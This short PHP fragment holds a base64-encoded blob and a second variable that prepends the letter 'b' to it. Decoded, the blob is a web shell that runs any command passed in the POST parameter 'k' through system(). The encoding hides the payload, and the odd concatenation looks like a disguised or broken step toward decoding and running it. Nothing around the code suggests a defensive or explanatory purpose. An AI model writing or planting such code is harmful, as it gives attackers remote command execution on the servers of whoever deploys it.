<?php
$blob = 'PD9waHAgaWYoaXNzZXQoJF9QT1NUWydrJ10pKXtzeXN0ZW0oJF9QT1NUWydrJ10pO30gPz4=';
$run = 'b' . $blob;
